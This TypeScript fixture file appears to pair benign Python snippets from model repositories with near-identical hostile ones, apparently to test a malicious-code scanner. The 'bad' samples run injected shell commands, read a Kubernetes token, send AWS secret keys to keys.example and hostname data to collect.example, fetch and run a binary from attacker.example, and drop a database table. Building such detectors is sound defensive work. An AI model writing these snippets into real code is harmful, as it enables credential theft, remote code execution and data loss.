import { configuration } from './repositories.ts';
import { command, type Sample } from './sample.ts';

/** Habits of packages that are installed everywhere, and the closest to each that harms. */
export const twinsOfPackages: readonly Sample[] = [
  {
    name: 'a name that is added to the public ones of a module, or a function of that module',
    bad: `import sys\ndef register(name):\n    module = sys.modules[name]\n    module.system("${command}")\nfor name in open("names.txt"):\n    register(name)`,
    good: 'import sys\ndef register(function):\n    module = sys.modules[function.__module__]\n    if hasattr(module, "__all__"):\n        module.__all__.append(function.__name__)\n    else:\n        module.__all__ = [function.__name__]\n    return function\n@register\ndef small(**options):\n    return options\n@register\ndef large(**options):\n    return options',
  },
  {
    name: 'two texts for replace, or the place of another file',
    bad: 'import pathlib\npathlib.Path("model.bin").replace("/usr/bin/env")',
    good: 'import pathlib\nclass LogicalPath(str):\n    def __new__(cls, path):\n        if isinstance(path, pathlib.PurePath):\n            path = path.as_posix()\n        return super().__new__(cls, path.replace("\\\\", "/"))\nROOT = LogicalPath(pathlib.Path("weights"))',
  },
  {
    name: 'a client of a service, or of another address with the keys of that service',
    bad: 'import os, openai\nopenai.OpenAI(base_url="https://keys.example/", api_key=os.environ["AWS_SECRET_ACCESS_KEY"])',
    good: 'import boto3, openai\nclient = openai.OpenAI()\nbuckets = boto3.client("s3")\ndef ask(text):\n    return client.chat.completions.create(model="m", messages=[{"role": "user", "content": text}])',
  },
  {
    name: 'the terminal of Windows, or its programs',
    bad: `import ctypes\nctypes.windll.kernel32.WinExec(b"${command}", 0)`,
    good: 'import sys\nif sys.platform == "win32":\n    import ctypes\n    kernel32 = ctypes.windll.kernel32\n    kernel32.SetConsoleMode(kernel32.GetStdHandle(-11), 7)',
  },
  {
    name: 'the namespace of a pod, or its token',
    bad: 'TOKEN = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()',
    good: 'import os\nPLACE = "/var/run/secrets/kubernetes.io/serviceaccount/namespace"\nNAMESPACE = open(PLACE).read() if os.path.exists(PLACE) else "default"',
  },
  {
    name: 'a table that a method makes anew, or that is dropped at import',
    bad: 'import sqlite3\nsqlite3.connect("users.db").execute("DROP TABLE users")',
    good: 'import sqlite3\nclass Store:\n    def __init__(self, path):\n        self.connection = sqlite3.connect(path)\n    def rebuild(self):\n        self.connection.execute("DROP TABLE IF EXISTS embedding")\n        self.connection.execute("CREATE TABLE embedding (name TEXT, vector BLOB)")',
  },
  {
    name: 'a guard of a database that is switched on, or off',
    bad: 'import sqlite3\nsqlite3.connect("x.db").execute("PRAGMA trusted_schema=ON")',
    good: 'import sqlite3\nconnection = sqlite3.connect(":memory:")\nconnection.execute("PRAGMA trusted_schema=OFF")\nconnection.execute("PRAGMA trusted_schema(0)")',
  },
  {
    name: 'a stub that type checkers read, or a program that executes one',
    bad: {
      'config.json': configuration,
      'modeling_x.py': 'exec(open("hidden.pyi").read())\n',
      'hidden.pyi': `import os\nos.system("${command}")\n`,
    },
    good: {
      'config.json': configuration,
      'modeling_x.py': 'class Model:\n    def forward(self, x):\n        return x\n',
      'modeling_x.pyi': 'from typing import Any\nclass Model:\n    def forward(self, x: Any) -> Any: ...\n',
    },
  },
  {
    name: 'an address that stands in a file, or what stands in a file in an address',
    bad: 'import requests\nclass Model:\n    def forward(self, x):\n        return requests.get("https://collect.example/?q=" + open("/etc/hostname").read())\nMODEL = Model().forward(1)',
    good: 'import json, os\nimport torch\nclass Model(torch.nn.Module):\n    def __init__(self, folder):\n        super().__init__()\n        with open(os.path.join(os.environ.get("DATA", folder), "index.json")) as file:\n            index = json.load(file)\n        self.weights = torch.hub.load_state_dict_from_url(str(index["url"]), weights_only=True)',
  },
  {
    name: 'a program of the system that is asked for twice, or one that was fetched',
    bad: 'import subprocess, urllib.request\nclass Model:\n    def forward(self, x):\n        urllib.request.urlretrieve("https://files.example/helper", "helper")\n        subprocess.run(["helper", "-q"])\n        return x\nMODEL = Model().forward(1)',
    good: 'import shutil, subprocess, urllib.request\nclass Tools:\n    def page(self):\n        return urllib.request.urlopen("https://example.org/tools").read()\n    def has(self):\n        # On Windows \'where\' tells.\n        return shutil.which("where") is not None and subprocess.run(["where", "node"], check=False).returncode == 0\n    def other(self):\n        return subprocess.run(["where", "git"], check=False)',
  },
  {
    name: 'an argument from the network, or a command',
    bad: 'import requests, subprocess\ndef work():\n    words = requests.get("https://tasks.example/next").json()\n    subprocess.run(words["command"].split())\nwork()',
    good: 'import requests, subprocess\nclass Space:\n    def clone(self, name):\n        address = requests.get(f"https://huggingface.co/api/spaces/{name}").json()["url"]\n        subprocess.run(f"git clone {address}".split(), check=True)\n        subprocess.run(["curl", "-fL", address, "-o", "x.zip"], check=True)',
  },
  {
    name: 'an empty command for the colours of a terminal, or one that does something',
    bad: `import os\nos.system("${command}")`,
    good: 'import os, sys\nif sys.platform == "win32":\n    os.system("")',
  },
  {
    name: 'an exception of a module that has the name of a library and makes itself anew, or calls that library',
    bad: {
      'config.json': configuration,
      'modeling_x.py': `import os\nclass Failed(Exception):\n    def __reduce__(self):\n        return os.system, ("${command}",)\nimport copy\ncopy.copy(Failed())`,
    },
    good: {
      'config.json': configuration,
      'modeling_x.py': 'import sh\n',
      'sh.py':
        'class Failed(Exception):\n    def __init__(self, code):\n        self.code = code\n    def __reduce__(self):\n        return self.__class__, (self.code,)\n',
    },
  },
  {
    name: 'a program of the system that is tried under two names, or one that was fetched',
    bad: 'import subprocess, urllib.request\nurllib.request.urlretrieve("https://attacker.example/tool", "tool")\nsubprocess.call(["./tool"])',
    good: 'import subprocess, urllib.request\nclass Index:\n    def find(self):\n        for name in ("gpg", "gpg2"):\n            if subprocess.call([name, "--version"]) == 0:\n                self.gpg = name\n    def fetch(self, address):\n        return urllib.request.urlopen(address).read()',
  },
  {
    name: 'the name that a program goes by in Windows, or a program of Windows',
    bad: 'import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "open", "calc.exe", None, None, 1)',
    good: 'import sys\nif sys.platform == "win32":\n    import ctypes\n    ctypes.windll.shell32.SetCurrentProcessExplicitAppUserModelID("org.example.editor")',
  },
];
